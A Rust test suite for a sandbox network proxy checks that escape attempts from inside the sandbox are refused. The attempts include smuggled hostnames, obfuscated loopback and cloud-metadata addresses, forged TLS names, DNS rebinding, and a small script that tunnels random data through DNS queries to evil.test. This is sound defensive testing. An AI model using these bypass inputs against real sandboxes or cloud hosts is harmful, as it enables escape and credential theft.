//! The network of a ring, attacked from inside: everything that was not allowed arrives nowhere.

use std::collections::BTreeSet;

use outside::networked::{DNS, SOON, only, place, refused, run, said, steady, yaml};
use outside::{Internet, Ran, Who, everybody};

const ALLOWED: &str = "{allow: ['ok.test:80', 'ok.test:443', 'other.test:80', 'other.test:8080', '*.wild.test:80', \
    'loop.test:80', 'zero.test:80', 'meta.test:80', 'azure.test:80', 'ten.test:80', 'own.test:80', 'own2.test:80', \
    'own6.test:80', 'loop6.test:80', 'mapped.test:80', 'nat64.test:80', 'ula.test:80', 'cname.test:80', \
    'synth.test:80']}";

/// Attempts that have to be open outside every ring; otherwise they would show nothing inside.
const OPEN_OUTSIDE: [&str; 42] = [
    "netfilter",
    "raw-v4",
    "raw-v4-of-allowed",
    "raw-v6",
    "raw-metadata",
    "raw-azure",
    "raw-own",
    "raw-own-2",
    "raw-own-v6",
    "raw-loopback",
    "raw-loopback-v6",
    "raw-mapped",
    "raw-zero",
    "raw-private",
    "name-evil",
    "name-suffix",
    "name-prefix",
    "name-doh",
    "port-of-another",
    "leads-loop",
    "leads-zero",
    "leads-meta",
    "leads-azure",
    "leads-ten",
    "leads-own",
    "leads-own2",
    "leads-own6",
    "leads-loop6",
    "leads-mapped",
    "leads-nat64",
    "leads-ula",
    "leads-cname",
    "dns-udp-there",
    "dns-udp-elsewhere",
    "dns-tcp-there",
    "dns-tcp-elsewhere",
    "udp-out",
    "udp-own",
    "sni-forged",
    "sni-none",
    "unix-abstract",
    "unix-path",
];
/// And these for root.
const OPEN_TO_ROOT: [&str; 4] = ["icmp-raw", "packet-socket", "namespace-net", "address"];

/// What the report says of attempts that agt-egress saw: name, port, kind, at least how often.
const REFUSED: [(&str, u64, &str, u64); 55] = [
    ("", 0, "not a proxy request", 10),
    ("", 80, "not a proxy request", 2),
    ("*.wild.test", 80, "not a proxy request", 1),
    ("0313.0.0161.0102", 80, "an address, not a name", 1),
    ("0xcb007142", 80, "an address, not a name", 1),
    ("127.0.0.1", 80, "an address, not a name", 3),
    ("127.1", 80, "an address, not a name", 1),
    ("169.254.169.254", 80, "an address, not a name", 1),
    ("198.18.7.7", 80, "an address that stands for no name", 1),
    ("198.19.0.77", 80, "an address that stands for no name", 1),
    ("2001:db8::66", 80, "an address, not a name", 1),
    ("203.0.113.10", 80, "an address, not a name", 1),
    ("203.0.113.66", 80, "an address, not a name", 3),
    ("3405803842", 80, "an address, not a name", 1),
    ("[2001:db8::66]", 80, "an address, not a name", 1),
    ("[::ffff:203.0.113.66]", 80, "an address, not a name", 1),
    ("[fe80::1%25lo]", 80, "an address, not a name", 1),
    ("[fe80::1%lo]", 80, "an address, not a name", 1),
    ("a:b@ok.test:80", 0, "not a proxy request", 1),
    ("azure.test", 80, "a private address", 2),
    ("cname.test", 80, "a private address", 2),
    ("doh.test", 0, "not in network.allow", 1),
    ("evil.test", 0, "not in network.allow", 1),
    ("evil.test", 80, "not in network.allow", 2),
    ("evilok.test", 0, "not in network.allow", 1),
    ("evilok.test", 80, "not in network.allow", 1),
    ("localhost", 80, "not in network.allow", 1),
    ("loop.test", 80, "this host's own address", 2),
    ("loop6.test", 80, "this host's own address", 2),
    ("mapped.test", 80, "this host's own address", 2),
    ("meta.test", 80, "a private address", 2),
    ("nat64.test", 80, "a private address", 2),
    ("ok..test", 80, "not a proxy request", 1),
    ("ok.test", 443, "TLS for another name", 3),
    ("ok.test", 443, "TLS without a server name", 1),
    ("ok.test", 443, "an encrypted server name", 2),
    ("ok.test", 443, "not TLS", 3),
    ("ok.test", 8080, "not in network.allow", 1),
    ("ok.test", 9999, "not in network.allow", 2),
    ("ok.test\0.evil.test", 80, "not a proxy request", 1),
    ("ok.test..", 80, "not a proxy request", 1),
    ("ok.test.evil.test", 0, "not in network.allow", 1),
    ("ok.test.evil.test", 80, "not in network.allow", 1),
    ("ok.test:0", 0, "not a proxy request", 1),
    ("ok.test:65616", 0, "not a proxy request", 1),
    ("ok.test:+80", 0, "not a proxy request", 1),
    ("ok.test@evil.test:80", 0, "not a proxy request", 1),
    ("ok_.test", 80, "not a proxy request", 1),
    ("other.test", 80, "TLS for another name", 1),
    ("own.test", 80, "this host's own address", 2),
    ("own2.test", 80, "this host's own address", 2),
    ("own6.test", 80, "this host's own address", 2),
    ("synth.test", 80, "a private address", 2),
    ("ten.test", 80, "a private address", 2),
    ("ula.test", 80, "a private address", 2),
];

/// `NAME open|shut WHY` for every attempt of attack.py.
fn attempts(text: &str) -> Vec<(&str, bool, &str)> {
    let one = |line: &'_ str| -> Option<(usize, bool)> {
        let (name, rest) = line.split_once(' ')?;
        Some((name.len(), rest.starts_with("open ")))
    };
    text.lines()
        .filter_map(|line| one(line).map(|(name, open)| (&line[..name], open, &line[name..])))
        .collect()
}

fn open(text: &str) -> BTreeSet<&str> {
    let all = attempts(text).into_iter().filter(|(_, open, _)| *open);
    all.map(|(name, ..)| name).collect()
}

#[test]
fn attempts_that_succeed_outside_every_ring_reach_nothing_from_inside_one() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let attack = place.dir.join("ws/attack.py");
        let mut names: Vec<&str> = OPEN_OUTSIDE.to_vec();
        if who == Who::Root {
            names.extend(OPEN_TO_ROOT);
        }
        let mut args = vec![
            "/usr/bin/env",
            "-S",
            "",
            "python3",
            attack.to_str().unwrap(),
        ];
        let canaries = format!("CANARY_DIR={}", net.dir.display());
        args[2] = &canaries;
        args.extend(&names);
        let control = said(&net, who, &args);
        let open_outside = open(&control);
        let silent: Vec<&&str> = names
            .iter()
            .filter(|name| !open_outside.contains(*name))
            .collect();
        assert!(
            silent.is_empty(),
            "as {who:?} these show nothing: {silent:?}\n{control}"
        );
        let canaries = net.seen();
        for line in [
            "packet tcp 203.0.113.66:80",
            "packet tcp 127.0.0.1:80",
            "packet udp 203.0.113.66:9",
        ] {
            assert!(
                canaries.iter().any(|seen| seen == line),
                "{line} is not seen: {canaries:?}"
            );
        }

        let command = format!(
            "[env, 'CANARY_DIR={}', python3, attack.py]",
            net.dir.display()
        );
        let (ran, report) = run(&place, &net, &yaml(ALLOWED, &command));
        ran.expect_code(0);
        let all = attempts(&ran.stdout).len();
        assert!(all >= 143, "only {all} attempts: {ran:#?}");
        assert_eq!(open(&ran.stdout), BTreeSet::new(), "{who:?} {}", ran.stdout);
        let missing: Vec<_> = REFUSED
            .iter()
            .filter(|(name, port, kind, least)| refused(&report, name, *port, kind) < *least)
            .collect();
        assert!(
            missing.is_empty(),
            "{who:?} {missing:#?}\n{:#}",
            report["network"]
        );
        ran.expect_said("refused: evil.test: no rule allows evil.test; add `evil.test:443`")
            .expect_said("refused: 198.18.7.7:80: 198.18.7.7 stands for no name of this run")
            .expect_said("refused: meta.test:80: meta.test resolves to 169.254.169.254, the cloud's metadata")
            .expect_said("refused: own.test:80: own.test resolves to 192.0.2.2, which is this host");
        let names = [
            "ok", "other", "loop", "zero", "meta", "azure", "ten", "own", "own2", "own6", "loop6",
            "mapped", "nat64", "ula", "cname", "synth",
        ]
        .map(|name| format!("dns {name}.test"));
        // By the proxy a tunnel is dialled before its client is judged; nothing is forwarded.
        let mut allowed = vec![
            DNS,
            "packet tcp 203.0.113.10:80",
            "packet tcp 203.0.113.10:443",
            "packet tcp 203.0.113.11:80",
        ];
        allowed.extend(names.iter().map(String::as_str));
        only(&net, &allowed);
    }
}

const QUESTIONS: &str = "import os, socket, struct
def ask(name):
    labels = b''.join(bytes([len(p)]) + p.encode() for p in name.split('.'))
    s.send(b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + labels + struct.pack('>BHH', 0, 1, 1))
    return s.recv(4096)[3] & 15
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(5)
s.connect(('198.18.0.1', 53))
data = [os.urandom(20).hex() for _ in range(500)]
print('evil', {ask(f'{one}.evil.test') for one in data})
print('allowed', {ask(f'{one}.ok.test') for one in data})
print('wild', {ask(f'{one}.wild.test') for one in data})
socket.create_connection(('reached.wild.test', 80), 10).sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
";

#[test]
fn questions_carry_nothing_out_and_only_connections_ask() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file("ws/questions.py", QUESTIONS);
        let _before = net.seen();
        let allow = "{allow: ['ok.test:80', '*.wild.test:80']}";
        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, questions.py]"));
        assert_eq!(
            ran.expect_code(0).stdout,
            "evil {3}\nallowed {3}\nwild {0}\n",
            "{ran:?}"
        );
        let network = &report["network"];
        let all = network["refused"].as_array().unwrap();
        let count: u64 = all.iter().filter_map(|one| one["count"].as_u64()).sum();
        let more = network["more_refused"].as_u64().unwrap();
        assert_eq!(count + more, 1000, "{} and {more}", all.len());
        assert!(ran.stderr.lines().count() < 40, "{}", ran.stderr);
        only(
            &net,
            &[DNS, "dns reached.wild.test", "packet tcp 203.0.113.10:80"],
        );
    }
}

#[test]
fn an_answer_that_changes_is_dialled_as_it_was_judged() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        place.file(
            "ws/again.py",
            "import socket
good = bad = 0
for n in range(30):
    try:
        s = socket.create_connection(('rebind.test', 80), 10)
        s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n')
        good += b'200 OK' in s.recv(4096)
    except OSError: bad += 1
print(good > 0, bad > 0)
",
        );
        let _before = net.seen();
        let allow = "{allow: ['rebind.test:80']}";
        let (ran, report) = run(&place, &net, &yaml(allow, "[python3, again.py]"));
        assert_eq!(
            ran.expect_code(0).stdout,
            "True True\n",
            "{ran:?} {report:#}"
        );
        assert!(
            refused(&report, "rebind.test", 80, "this host's own address") > 0,
            "{report:#}"
        );
        only(
            &net,
            &[DNS, "dns rebind.test", "packet tcp 203.0.113.10:80"],
        );
    }
}

#[test]
fn a_carrier_serves_its_own_ring_only() {
    let Some(net) = Internet::new() else { return };
    for who in everybody() {
        let place = place(who, &net);
        let first = steady(&place, &net);
        let ask = "import socket
for to in [('198.18.0.1', 3128), ('198.18.1.0', 80), ('198.18.0.1', 53)]:
    try:
        s = socket.create_connection(to, 3); s.settimeout(2)
        s.sendall(b'CONNECT ok.test:80 HTTP/1.1\\r\\n\\r\\n')
        print(to[1], s.recv(12))
    except OSError as error: print(to[1], type(error).__name__)
";
        let second = outside::networked::place(who, &net);
        second.file("ws/ask.py", ask);
        let _before = net.seen();
        // A ring without a network, one with another, and the host itself.
        let (ran, _) = run(&second, &net, &yaml("{}", "[python3, ask.py]"));
        assert_eq!(
            ran.expect_code(0).stdout,
            "3128 OSError\n80 OSError\n53 OSError\n",
            "{ran:?}"
        );
        let (ran, _) = run(
            &second,
            &net,
            &yaml("{allow: ['other.test:8080']}", "[python3, ask.py]"),
        );
        let said_there =
            "3128 b'HTTP/1.1 403'\n80 ConnectionRefusedError\n53 ConnectionResetError\n";
        assert_eq!(ran.expect_code(0).stdout, said_there, "{ran:?}");
        let script = second.dir.join("ws/ask.py");
        let host = said(&net, who, &["python3", script.to_str().unwrap()]);
        // Out there those addresses are anybody's: the world's canaries answer, no proxy does.
        assert_eq!(
            host,
            "3128 b'canary\\n'\n80 b'canary\\n'\n53 b'canary\\n'\n"
        );
        place.file("ws/stop", "");
        Ran::wait(first, SOON).expect_code(7);
    }
}
